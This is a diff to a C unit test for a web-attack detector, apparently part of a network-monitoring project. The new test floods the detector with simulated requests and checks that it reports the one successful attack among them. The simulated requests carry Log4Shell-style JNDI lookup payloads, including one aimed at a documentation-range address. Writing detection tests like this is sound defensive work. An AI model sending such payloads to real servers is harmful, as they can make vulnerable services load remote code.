@@ -3,6 +3,8 @@
  * where the attack said is told as broken into. Others are not. */
 #include "web.h"
 
+#include "hidden.h"
+
 #include "flow/local.h"
 #include "flow/table.h"
 
@@ -141,26 +143,61 @@ static void test_out(void **state)
 	see_end();
 }
 
-/* Many attacks that nobody answers: bounded, and none is lost. */
-static void test_flood(void **state)
+/* Attacks by anybody that name any place, and nobody answers. */
+static void noise(uint64_t now_ns)
 {
-	struct pk_detector_use u;
+	static uint64_t flow = 1000;
+	char target[80];
+
+	for (unsigned i = 0; i < 1000; i++) {
+		snprintf(target, sizeof(target), "/?x=${jndi:ldap://h%08x.example/a}",
+			 hidden_random());
+		see_get(now_ns, ++flow, hidden_random() | 1u << 23, target);
+	}
+}
+
+/* One worked, three seconds later. The server also goes where nobody told it to, and is asked for
+ * what is no attack. */
+static void play(uint64_t now_ns, unsigned second)
+{
+	if (second == 300)
+		see_get(now_ns, 1, 9, "/?x=${jndi:ldap://198.51.100.7/a}");
+	if (second == 303)
+		goes_to(7, now_ns, NULL);
+	goes_to(8, now_ns, NULL);
+	see_get(now_ns, 2, 10, "/search?q=how+to+use+wget+and+curl");
+}
+
+static bool has_worked(const struct pk_finding *f)
+{
+	return strstr(f->title, "worked") && f->remote[15] == 7;
+}
+
+static bool is_twin(const struct pk_finding *f)
+{
+	return (strstr(f->title, "worked") && f->remote[15] != 7) ||
+	       (f->remote[13] == 0 && f->remote[15] == 10);
+}
+
+static size_t attempts;
+
+static void watch(const struct pk_finding *f)
+{
+	attempts += !strstr(f->title, "worked");
+	hidden_watch(f);
+}
+
+/* The one that worked is told, and no attempt is lost to make room. */
+static void test_hidden_in_flood(void **state)
+{
+	static const struct hidden flood = { "web_attack", noise, play, has_worked, is_twin };
 
 	(void)state;
 	see_begin("web_attack");
-	for (uint64_t i = 1; i <= 20000; i++) {
-		char target[80];
-
-		snprintf(target, sizeof(target), "/?x=${jndi:ldap://h%u.example/a}", (unsigned)i);
-		see_get(S, i, (uint8_t)i, target);
-	}
-	pk_detect_tick(seen.detect, 9 * S);
-	assert_int_equal(seen.n, 20000);
-	for (size_t i = 0; i < pk_detectors_n; i++)
-		if (pk_detectors[i] == &pk_detect_web_attack) {
-			pk_detect_use(seen.detect, i, &u);
-			assert_in_range(u.bytes, 1, u.bytes_max);
-		}
+	seen.watch = watch;
+	hidden_judge(&flood);
+	pk_detect_tick(seen.detect, (HIDDEN_SECONDS + 9) * S);
+	assert_int_equal(attempts, HIDDEN_SECONDS * 1000 + 1);
 	see_end();
 }
 
@@ -196,10 +233,14 @@ static void test_cost(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_answered), cmocka_unit_test(test_unanswered),
-		cmocka_unit_test(test_benign),   cmocka_unit_test(test_body),
-		cmocka_unit_test(test_call),     cmocka_unit_test(test_out),
-		cmocka_unit_test(test_flood),    cmocka_unit_test(test_cost),
+		cmocka_unit_test(test_answered),
+		cmocka_unit_test(test_unanswered),
+		cmocka_unit_test(test_benign),
+		cmocka_unit_test(test_body),
+		cmocka_unit_test(test_call),
+		cmocka_unit_test(test_out),
+		cmocka_unit_test(test_hidden_in_flood),
+		cmocka_unit_test(test_cost),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
